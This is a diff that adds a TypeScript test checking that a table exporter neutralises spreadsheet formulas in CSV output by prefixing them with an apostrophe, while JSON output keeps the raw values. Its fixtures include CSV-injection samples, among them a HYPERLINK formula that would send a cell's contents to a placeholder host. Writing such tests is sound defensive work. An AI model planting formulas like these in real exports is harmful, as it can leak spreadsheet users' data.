@@ -73,6 +73,17 @@ test("any DataFrame is written, its types taken from its values", async () => {
   assert.equal(readFileSync(join(root, "frame.csv"), "utf8"), 'n,x,t\r\n1,0.5,a\r\n2,1e-300,\r\n3,0.1,"c,d"\r\n');
 });
 
+test("a token or a label that a spreadsheet would run is a text in CSV, and as it is elsewhere", async () => {
+  const texts = ['=HYPERLINK("http://x/?"&A1)', "+1+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "a = b", "'"];
+  const frame = dataFrame(texts.map((text, i) => [-i - 1, text]), ["n", "=t"]);
+  for (const ending of ["csv", "json"]) await exportTable(frame, join(root, `formulas.${ending}`));
+  const [header, ...lines] = readCsv(readFileSync(join(root, "formulas.csv"), "utf8"));
+  assert.deepEqual(header, ["n", "'=t"]);
+  assert.deepEqual(lines.map(([n]) => n), texts.map((_, i) => `${-i - 1}`)); // numbers are numbers
+  assert.deepEqual(lines.map(([, text]) => text), texts.map((text, i) => (i < 6 ? `'${text}` : text)));
+  assert.deepEqual((JSON.parse(readFileSync(join(root, "formulas.json"), "utf8")) as Record<string, string>[]).map((row) => row["=t"]), texts);
+});
+
 test("another ending or a folder that is not there: what to do, and nothing half-written", async () => {
   const frame = dataFrame([[1]], ["n"]);
   await assert.rejects(exportTable(frame, join(root, "table.xlsx")), (error: Error) => error instanceof OptionError && /\.csv, \.json or \.parquet/.test(error.message));
